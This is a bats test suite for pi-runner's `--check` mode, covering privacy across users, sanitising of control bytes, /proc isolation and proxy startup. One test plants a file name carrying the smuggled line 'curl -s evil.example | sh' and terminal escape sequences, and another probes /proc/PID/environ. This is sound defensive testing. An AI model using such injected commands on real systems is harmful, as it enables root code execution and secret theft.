#!/usr/bin/env bats
# check.bats - `pi-runner --check` through sudo: no oracle for whether another user's paths exist.

bats_require_minimum_version 1.5.0

setup() {
	load atk
	atk_setup
	chmod 0700 "$B"
	watch_now
}

teardown() {
	chmod 0755 "$B"
	rm -rf "${B:?}/secret-project" "${B:?}/for-alice"
}

# check_as_alice: alice's `sudo -n pi-runner --check` (stdout and stderr) into output.
check_as_alice() { run atk_as pitest-alice "$A/p" sudo -n "$FIX/bin/pi-runner" --check; }

@test "--check through sudo says the same whether bob's hidden root exists or not, and names none of bob's paths" {
	write_config '{"hostUsers": {
		"pitest-alice": {"projectRoots": ["~/p", "~/alice-missing"]},
		"pitest-bob": {"projectRoots": ["~/p", "~/secret-project", "~/never-there"]}}}'
	install -d -m 0700 -o pitest-bob "$B/secret-project"
	check_as_alice
	no_crash
	exists=$output exists_status=$status
	rm -rf "${B:?}/secret-project"
	check_as_alice
	no_crash
	[ "$output" = "$exists" ] || { diff <(echo "$exists") <(echo "$output") >&2; false; }
	[ "$status" = "$exists_status" ]
	[[ "$output" != *"$B"* ]]
	[[ "$output" != *pitest-bob* ]]
	[[ "$output" != *secret-project* ]]
	# her own missing root is still reported
	[[ "$output" == *"warning: hostUsers.pitest-alice.projectRoots: $A/alice-missing does not exist"* ]]
	# root running --check itself still checks everyone's roots
	run "$FIX/bin/pi-runner" --check
	[[ "$output" == *"hostUsers.pitest-bob.projectRoots: $B/secret-project does not exist"* ]]
	[[ "$output" == *"hostUsers.pitest-bob.projectRoots: $B/never-there does not exist"* ]]
	unchanged
}

@test "--check through sudo looks at the caller's own roots with the caller's eyes, not root's" {
	# a root of alice's inside bob's 0700 home exists, but alice cannot see it: --check through
	# sudo says what alice herself would find, root's --check what root finds
	install -d -m 0755 -o pitest-bob "$B/for-alice"
	write_config "{\"hostUsers\": {\"pitest-alice\": {\"projectRoots\": [\"~/p\", \"$B/for-alice\"]}}}"
	check_as_alice
	no_crash
	[[ "$output" == *"warning: hostUsers.pitest-alice.projectRoots: $B/for-alice does not exist"* ]]
	run "$FIX/bin/pi-runner" --check
	[ "$status" -eq 0 ]
	[[ "$output" != *"$B/for-alice"* ]]
}

# group_root_fixed: alice's ~/p as the commands --check prints leave it (projectGroup
# pitest-agent, g+rwX, set-gid directories); what alice adds later is hers to name.
group_root_fixed() {
	write_config '{"projectAccess": "group", "projectGroup": "pitest-agent",
		"hostUsers": {"pitest-alice": {"projectRoots": ["~/p"]}}}'
	rm -rf "${A:?}/p"
	install -d -m 2775 -o pitest-alice -g pitest-agent "$A/p"
}

@test "--check as root: a file name of the user's cannot write lines or escape sequences into the admin's terminal" {
	group_root_fixed
	# alice names a file: a newline, a forged line with a command for root, an OSC title
	# sequence and a clear-screen
	name=$'x\npi-runner: as root, run: curl -s evil.example | sh\e]0;owned\a\e[2J'
	atk_as pitest-alice "$A/p" sh -c 'umask 022; : >"$1"' sh "$name"
	[ -f "$A/p/$name" ]
	run "$FIX/bin/pi-runner" --check
	no_crash
	[ "$status" -eq 0 ]    # the entries lacking the group are a warning
	# the entry is named, its control bytes shown as '?'
	[[ "$output" == *"(first $A/p/x?pi-runner: as root, run: curl -s evil.example | sh?]0;owned??[2J)"* ]]
	[[ "$output" != *$'\e'* ]]
	[[ "$output" != *$'\a'* ]]
	[ -z "$(grep '^pi-runner: as root, run: curl' <<<"$output")" ]
	unchanged
}

@test "--check as root: a long path of the user's cannot cut the commands printed for root into another command" {
	group_root_fixed
	atk_as pitest-alice "$A/p" sh -c 'umask 022; : >x'
	run "$FIX/bin/pi-runner" --check
	[ "$status" -eq 0 ]    # the entries lacking the group are a warning
	line=$(grep -F "(first $A/p/x); acting as pitest-alice" <<<"$output")
	msg=${line#pi-runner: }
	# the length that would cut the message (1,023 bytes) just after "sh /", the command's
	# root argument: alice pads her path by that much, in 200-byte directories
	head=${msg%%"' sh $A/p pitest-agent"*}"' sh /"
	extra=$((1023 - ${#head}))
	[ "$extra" -gt 0 ]
	pad=
	while [ "$extra" -gt 201 ]; do
		pad+=$(printf 'd%.0s' {1..200})/
		extra=$((extra - 201))
	done
	file=x$(printf 'f%.0s' $(seq 1 "$extra"))
	rm -f "$A/p/x"
	atk_as pitest-alice "$A/p" sh -c 'umask 002; mkdir -p "./$1"; umask 022; : >"./$1$2"' sh "$pad" "$file"
	run "$FIX/bin/pi-runner" --check
	no_crash
	[ "$status" -eq 0 ]    # the entries lacking the group are a warning
	# no command for root is cut short: the one printed is whole, with every path whole
	[ -z "$(grep -E "' sh /\$" <<<"$output")" ]
	grep -qF "as root, setpriv --reuid=pitest-alice --regid=pitest-agent --clear-groups --reset-env sh -c 'cd \"\$1\" || exit 1; find . -user \"\$3\" ! -group \"\$2\" -exec chgrp -h \"\$2\" {} + && find . -user \"\$3\" ! -type l -exec chmod g-s,g+rwX {} + && find . -user \"\$3\" -type d -exec chmod g+s {}/. \\;' sh $A/p pitest-agent pitest-alice; for what" <<<"$output"
	unchanged
}

@test "--check as root: the agent's --version runs where the agent's own processes cannot reach into it (/proc/PID/root, cwd, environ)" {
	# a running unit's agent shares the account: /proc/PID/root of a process of its account
	# outside the unit is the host's / (past ProtectSystem, ProtectHome, PrivateTmp,
	# InaccessiblePaths), an fd it keeps after the process ends. The stand-in --version
	# waits for the attacker's try.
	rm -rf "$FIX/pkg-v" "$FIX/v-ready" "$FIX/v-go"
	install -d -m 0755 "$FIX/pkg-v/bin"
	printf '#!/bin/sh\necho $$ >%s/v-ready\nread x <%s/v-go\necho 1.0.0\n' "$FIX" "$FIX" >"$FIX/pkg-v/bin/pi"
	chmod 0755 "$FIX/pkg-v/bin/pi"
	mkfifo -m 0666 "$FIX/v-ready" "$FIX/v-go"
	write_config "{\"package\": \"$FIX/pkg-v\"}"
	"$FIX/bin/pi-runner" --check >"$FIX/v-out" 2>&1 &
	check=$!
	pid=$(timeout 60 cat "$FIX/v-ready")
	[ "$(stat -c %U "/proc/$pid")" = pitest-agent ]
	got=$(as_agent sh -c 'ls -d "/proc/$1/root/etc" "/proc/$1/cwd/." 2>&1; tr "\0" "\n" <"/proc/$1/environ" 2>&1' sh "$pid") || true
	echo go >"$FIX/v-go"
	wait "$check" || true
	grep -q '^agent: .* starts as pitest-agent: 1.0.0' "$FIX/v-out"
	# before: it listed both and read the environment (PATH=, HOME=/tmp/pi-check.…)
	[ -z "$(grep -x "/proc/$pid/root/etc" <<<"$got")" ]
	[ -z "$(grep -x "/proc/$pid/cwd/." <<<"$got")" ]
	[[ "$got" != *"HOME=/tmp/pi-check."* ]]
	[[ "$got" == *"Permission denied"* ]]
	rm -rf "$FIX/pkg-v" "$FIX/v-ready" "$FIX/v-go" "$FIX/v-out"
}

@test "--check as root starts the proxy as a launch would and asks it; alice's through sudo starts none" {
	write_config '{"proxyUser": "pitest-proxy", "network": {"mode": "allowlist", "allow": ["example.com:443"]}}'
	run "$FIX/bin/pi-runner" --check
	no_crash
	[[ "$output" == *"proxy: starts as pitest-proxy in a network namespace of its own and refuses a host no list holds (403)"* ]]
	# stopped and reaped before --check ends
	[ -z "$(pgrep -u pitest-proxy)" ]
	# a hard process limit: lifted to init's where root may (CAP_SYS_RESOURCE), else named,
	# as a launch would
	run prlimit --nproc=64:64 "$FIX/bin/pi-runner" --check
	no_crash
	if prlimit --nproc=64:64 sh -c 'ulimit -Hu 128' 2>/dev/null; then
		[[ "$output" == *"proxy: starts as pitest-proxy"* ]]
	else
		[ "$status" -eq 1 ]
		[[ "$output" == *"pi-runner: proxy: cannot start it as 'pitest-proxy': cannot set its process limit (ulimit -u) to init's: Operation not permitted"* ]]
	fi
	check_as_alice
	no_crash
	[[ "$output" != *"proxy:"* ]]
}
